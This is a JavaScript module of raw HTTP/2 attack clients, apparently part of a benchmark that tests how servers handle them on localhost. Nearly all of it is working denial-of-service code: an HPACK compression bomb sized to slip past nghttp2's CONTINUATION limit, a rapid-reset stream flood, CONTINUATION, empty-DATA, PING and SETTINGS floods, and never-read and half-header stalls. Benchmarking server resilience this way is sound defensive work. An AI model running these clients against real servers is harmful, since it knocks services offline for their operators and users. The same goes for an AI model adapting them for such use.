// Raw HTTP/2 attack clients for bench/attacks (plain JS, no test code):
// frame builders, a minimal HPACK encoder (static-table indexes, literals
// with incremental indexing, one-byte dynamic-table references) and a frame
// reader that records how the server ended each connection.
'use strict';
const { spawn } = require('node:child_process');
const { RawConn, sleep, until, tally, fmtN, flood, floodRow, stallRow, churnRow } = require('./common.js');

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const T = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 };
const F = { END_STREAM: 1, ACK: 1, END_HEADERS: 4 };
const CODES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT',
  'STREAM_CLOSED', 'FRAME_SIZE_ERROR', 'REFUSED_STREAM', 'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR',
  'ENHANCE_YOUR_CALM', 'INADEQUATE_SECURITY', 'HTTP_1_1_REQUIRED'];
const codeName = (c) => CODES[c] ?? `code ${c}`;
const MAX_FRAME = 16384;

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const b = Buffer.allocUnsafe(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  payload.copy(b, 9);
  return b;
}
function settings(pairs = []) {
  const p = Buffer.alloc(6 * pairs.length);
  pairs.forEach(([id, v], i) => { p.writeUInt16BE(id, 6 * i); p.writeUInt32BE(v, 6 * i + 2); });
  return frame(T.SETTINGS, 0, 0, p);
}
const settingsAck = () => frame(T.SETTINGS, F.ACK, 0);
function windowUpdate(streamId, inc) {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(inc);
  return frame(T.WINDOW_UPDATE, 0, streamId, p);
}
function rstStream(streamId, code) {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code);
  return frame(T.RST_STREAM, 0, streamId, p);
}
const ping = (i) => { const p = Buffer.alloc(8); p.writeUInt32BE(i >>> 0, 4); return frame(T.PING, 0, 0, p); };

/** HPACK integer with an N-bit prefix; `first` holds the representation's high bits. */
function hpackInt(value, prefixBits, first) {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [first | value];
  const out = [first | max];
  value -= max;
  while (value >= 128) { out.push((value & 0x7f) | 0x80); value >>>= 7; }
  out.push(value);
  return out;
}
const hpackStr = (s) => { const b = Buffer.from(s); return Buffer.concat([Buffer.from(hpackInt(b.length, 7, 0)), b]); };
/** Literal without indexing, indexed name (static table index). */
const litIdxName = (idx, value) => Buffer.concat([Buffer.from(hpackInt(idx, 4, 0)), hpackStr(value)]);
/** Literal with incremental indexing, new name. */
const litIncr = (name, value) => Buffer.concat([Buffer.from([0x40]), hpackStr(name), hpackStr(value)]);

/** Header block of a request: GET or POST, path. */
function requestBlock(method = 'GET', path = '/') {
  return Buffer.concat([
    Buffer.from([method === 'POST' ? 0x83 : 0x82, 0x86]), // :method, :scheme http
    path === '/' ? Buffer.from([0x84]) : litIdxName(4, path),
    litIdxName(1, '127.0.0.1'), // :authority
  ]);
}
const GET_ROOT = frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, requestBlock());

/**
 * The HPACK bomb: a request whose header block first stores one entry that
 * fills the whole default 4096-byte dynamic table (name 'x', 4063-byte
 * value: 1 + 4063 + 32), then references it (index 62, one byte: 0xbe)
 * until the block is `frames` x 16384 bytes. Split into HEADERS +
 * CONTINUATION frames of 16384 bytes. 9 frames (147,456 bytes on the wire,
 * about 143k references, ~580 MB decoded) fit nghttp2's default limit of 8
 * CONTINUATIONs.
 */
function hpackBomb(streamId, frames) {
  const head = Buffer.concat([requestBlock(), litIncr('x', 'a'.repeat(4063))]);
  const total = frames * MAX_FRAME;
  const block = Buffer.alloc(total, 0xbe);
  head.copy(block, 0);
  const out = [];
  for (let i = 0; i < frames; i++) {
    const last = i === frames - 1;
    const type = i === 0 ? T.HEADERS : T.CONTINUATION;
    const flags = (i === 0 ? F.END_STREAM : 0) | (last ? F.END_HEADERS : 0);
    out.push(frame(type, flags, streamId, block.subarray(i * MAX_FRAME, (i + 1) * MAX_FRAME)));
  }
  return Buffer.concat(out);
}

/**
 * One raw client connection. Reads (unless `read: false`) and records what
 * the server sent: GOAWAY code, RST_STREAM codes, response HEADERS, DATA
 * bytes per stream, streams ended (END_STREAM, counted once the frame is
 * whole); ACKs the server's SETTINGS (or blindly, up front, when
 * it never reads).
 */
class Conn extends RawConn {
  constructor(port, { read = true, settings: s = [], connWindow = 0, onData = null } = {}) {
    super(port, read);
    this.headers = 0;
    this.dataBytes = 0;
    this.ends = 0;
    this.onData = onData;
    this._skipStream = 0;
    this._skipEnds = false; // the DATA frame being skipped has END_STREAM
    // Resolves once the server's SETTINGS arrived and were ACKed (or the socket closed).
    this.settled = new Promise((resolve) => { this._settled = resolve; this.sock.once('close', resolve); });
    const first = [PREFACE, settings(s)];
    if (connWindow > 65535) first.push(windowUpdate(0, connWindow - 65535));
    if (!read) first.push(settingsAck());
    this.sock.write(Buffer.concat(first));
  }
  goawayName(c) { return codeName(c); }
  rstName(c) { return codeName(c); }
  _parse(d) {
    let off = 0;
    if (this._skip) {
      const n = Math.min(this._skip, d.length);
      this._skip -= n;
      this.dataBytes += n;
      if (this.onData) this.onData(this, this._skipStream, n);
      if (!this._skip && this._skipEnds) { this._skipEnds = false; this.ends++; }
      off = n;
      if (off === d.length) return;
    }
    let buf = this._buf.length ? Buffer.concat([this._buf, d.subarray(off)]) : d.subarray(off);
    let p = 0;
    while (buf.length - p >= 9) {
      const len = buf.readUIntBE(p, 3);
      const type = buf[p + 3];
      const flags = buf[p + 4];
      const sid = buf.readUInt32BE(p + 5) & 0x7fffffff;
      if (type === T.DATA) {
        p += 9;
        const n = Math.min(len, buf.length - p);
        p += n;
        this.dataBytes += n;
        this._skip = len - n;
        this._skipStream = sid;
        if (flags & F.END_STREAM) {
          if (this._skip) this._skipEnds = true;
          else this.ends++;
        }
        if (this.onData && n) this.onData(this, sid, n);
        if (this.sock.destroyed) return;
        continue;
      }
      if (buf.length - p < 9 + len) break;
      const pl = buf.subarray(p + 9, p + 9 + len);
      p += 9 + len;
      if (type === T.GOAWAY && len >= 8) this.goaway ??= pl.readUInt32BE(4);
      else if (type === T.RST_STREAM && len >= 4) this._countRst(pl.readUInt32BE(0));
      else if (type === T.HEADERS) {
        this.headers++;
        if (flags & F.END_STREAM) this.ends++;
      }
      else if (type === T.SETTINGS && !(flags & F.ACK) && this.reading && !this.sock.destroyed) {
        this.sock.write(settingsAck());
        this._settled();
      }
    }
    this._buf = Buffer.from(buf.subarray(p));
  }
}

// ---- attacks: each (port, ctx) -> { ended, note? }; ctx = { deadline, q (quick), big } ----

async function bomb(port, ctx, conns, frames) {
  const cs = [];
  for (let i = 0; i < conns; i++) cs.push(new Conn(port));
  await Promise.all(cs.map((c) => c.connected));
  const wire = hpackBomb(1, frames);
  await Promise.all(cs.map((c) => c.writeBy(wire, ctx.deadline)));
  const done = (c) => c.closed || c.goaway !== null || c.rst.size > 0 || c.headers > 0;
  await until(() => cs.every(done), ctx.deadline);
  await sleep(1000); // kept open: memory held by a live connection shows now
  const ended = tally(cs.map((c) => (c.headers && !c.rst.size && c.goaway === null ? 'answered 200' : c.outcome())));
  cs.forEach((c) => c.destroy());
  return { ended, note: `${(wire.length / 1024).toFixed(0)} KiB/conn` };
}

function h2load(port, ctx) {
  const n = 40;
  return new Promise((resolve) => {
    const t0 = Date.now();
    const child = spawn('h2load', ['-c4', '-m10', `-n${n}`, '-N', '10s', `http://127.0.0.1:${port}/big`], { stdio: ['ignore', 'pipe', 'ignore'] });
    let out = '';
    child.stdout.on('data', (d) => { out += d; });
    const timer = setTimeout(() => child.kill('SIGKILL'), Math.max(0, ctx.deadline - Date.now()));
    child.on('error', (e) => resolve({ ended: `h2load failed: ${e.code}` }));
    child.on('close', () => {
      clearTimeout(timer);
      const m = /requests: \d+ total, \d+ started, \d+ done, (\d+) succeeded, \d+ failed, (\d+) errored, (\d+) timeout/.exec(out);
      const s = ((Date.now() - t0) / 1000).toFixed(1);
      const more = m && (Number(m[2]) || Number(m[3])) ? ` (${m[2]} errored, ${m[3]} timed out)` : '';
      resolve({ ended: m ? `h2load ${m[1]}/${n} succeeded in ${s} s${more}` : `h2load killed after ${s} s, no result` });
    });
  });
}

async function neverReadBig(port, ctx) {
  const conns = ctx.q ? 10 : 20;
  const streams = 100;
  const cs = [];
  const reqs = [];
  for (let s = 0; s < streams; s++) reqs.push(frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1 + 2 * s, requestBlock('GET', '/big')));
  const wire = Buffer.concat(reqs);
  for (let i = 0; i < conns; i++) {
    cs.push(new Conn(port, { read: false, settings: [[4, 0x7fffffff]], connWindow: 0x7fffffff }));
  }
  await Promise.all(cs.map((c) => c.connected));
  cs.forEach((c) => c.sock.write(wire));
  await sleep(Math.max(0, Math.min(ctx.q ? 5000 : 10000, ctx.deadline - Date.now())));
  // Probe: a PING write on a connection the server has reset fails.
  cs.forEach((c) => { if (!c.closed) c.sock.write(ping(1)); });
  await sleep(300);
  const closed = cs.filter((c) => c.closed || c.error).length;
  cs.forEach((c) => c.destroy());
  return { ended: closed ? `${closed}/${conns} closed by server, rest still open (never read)` : `still open (never read), ${conns}×${streams} streams` };
}

async function midBody(port, ctx) {
  const total = ctx.q ? 200 : 1000;
  const par = ctx.q ? 20 : 50;
  const LEAVE = 512 * 1024;
  let started = 0;
  const outcomes = [];
  const worker = async () => {
    while (started < total && Date.now() < ctx.deadline) {
      started++;
      let left = false;
      const c = new Conn(port, {
        settings: [[4, 1 << 20]],
        connWindow: 1 << 20,
        onData: (conn) => { if (conn.dataBytes >= LEAVE && !left) { left = true; conn.destroy(); } },
      });
      await c.connected;
      c.sock.write(frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, requestBlock('GET', '/big')));
      await until(() => left || c.closed, Math.min(ctx.deadline, Date.now() + 5000));
      outcomes.push(left ? 'left after 512 KiB' : `got ${(c.dataBytes / 1024) | 0} KiB: ${c.outcome()}`);
      c.destroy();
    }
  };
  await Promise.all(Array.from({ length: par }, worker));
  return { ended: tally(outcomes.map((s) => (s.startsWith('got') ? s.replace(/got \d+ KiB/, 'got <512 KiB') : s))) };
}

/** Writes `frameBuf` (a batch of frames) up to `count` frames or the deadline; stops on GOAWAY/close. */
async function emptyData(port, ctx) {
  const c = new Conn(port);
  await c.connected;
  c.sock.write(frame(T.HEADERS, F.END_HEADERS, 1, requestBlock('POST', '/')));
  const one = frame(T.DATA, 0, 1);
  const per = 8192;
  const batch = Buffer.concat(Array(per).fill(one));
  return floodRow(c, batch, per, ctx.q ? 2e6 : 20e6, ctx, 'frames sent');
}

/** HEADERS without END_HEADERS, then CONTINUATION frames of small literal fields, never ending the block. */
async function continuationFlood(port, ctx) {
  const c = new Conn(port);
  await c.connected;
  c.sock.write(frame(T.HEADERS, F.END_STREAM, 1, requestBlock()));
  const one = frame(T.CONTINUATION, 0, 1, litIdxName(58, 'x'.repeat(100))); // user-agent
  const per = Math.floor(65536 / one.length);
  return floodRow(c, Buffer.concat(Array(per).fill(one)), per, ctx.q ? 200e3 : 1e6, ctx, 'CONTINUATIONs sent');
}

async function rapidReset(port, ctx) {
  const c = new Conn(port);
  await c.connected;
  const per = 1000;
  const block = requestBlock();
  let sid = 1;
  let sent = 0;
  const count = ctx.q ? 100e3 : 1e6;
  const stopAt = Math.min(ctx.deadline - 2500, Date.now() + (ctx.q ? 6000 : 15000));
  while (sent < count && Date.now() < stopAt && !c.closed && c.goaway === null) {
    const parts = [];
    for (let i = 0; i < per; i++, sid += 2) {
      parts.push(frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, sid, block), rstStream(sid, 8));
    }
    if (!(await c.writeBy(Buffer.concat(parts), stopAt))) break;
    sent += per;
    await new Promise(setImmediate);
  }
  await until(() => c.closed || c.goaway !== null, Date.now() + 1500);
  const r = { ended: `${c.outcome()} after ${fmtN(sent)} streams` };
  c.destroy();
  return r;
}

async function neverReadFlood(port, ctx, one) {
  const c = new Conn(port, { read: false });
  await c.connected;
  const per = Math.floor(65536 / one.length);
  const batch = Buffer.concat(Array(per).fill(one));
  const sent = await flood(c, batch, per, ctx.q ? 3e6 : 20e6, ctx);
  await c.drainScan(2000);
  const r = { ended: `${c.outcome()} after ${fmtN(sent)} frames (reader paused)` };
  c.destroy();
  return r;
}

async function halfHeaders(port, ctx) {
  const n = ctx.q ? 100 : 500;
  const full = frame(T.HEADERS, F.END_STREAM | F.END_HEADERS, 1, Buffer.concat([requestBlock(), litIdxName(58, 'x'.repeat(200))]));
  const half = full.subarray(0, 9 + 100);
  const cs = [];
  for (let i = 0; i < n; i++) cs.push(new Conn(port));
  // The half frame must be the last thing sent: ACK the server's SETTINGS first.
  await Promise.race([Promise.all(cs.map((c) => c.settled)), sleep(3000)]);
  return stallRow(cs, half, ctx);
}

/**
 * Connection churn (common.js churnRow): each connection sends the preface,
 * SETTINGS and GET / in one HEADERS frame with END_STREAM; 'read' ACKs the
 * server's SETTINGS and reads the response to its END_STREAM, 'unread'
 * never reads (SETTINGS ACKed blindly), 'cut' sends the first half of the
 * HEADERS frame only.
 */
function churn(port, ctx) {
  const half = GET_ROOT.subarray(0, 9 + ((GET_ROOT.length - 9) >> 1));
  return churnRow((kind) => {
    const c = new Conn(port, { read: kind === 'read' });
    return { c, wire: kind === 'cut' ? half : GET_ROOT };
  }, ctx);
}

module.exports = {
  bomb1: (port, ctx) => bomb(port, ctx, 1, 9),
  bomb4: (port, ctx) => bomb(port, ctx, 4, 9),
  bombCont: (port, ctx) => bomb(port, ctx, 1, 64),
  h2load,
  neverReadBig,
  midBody,
  emptyData,
  rapidReset,
  continuationFlood,
  pingFlood: (port, ctx) => neverReadFlood(port, ctx, ping(1)),
  settingsFlood: (port, ctx) => neverReadFlood(port, ctx, settings()),
  halfHeaders,
  churn,
};
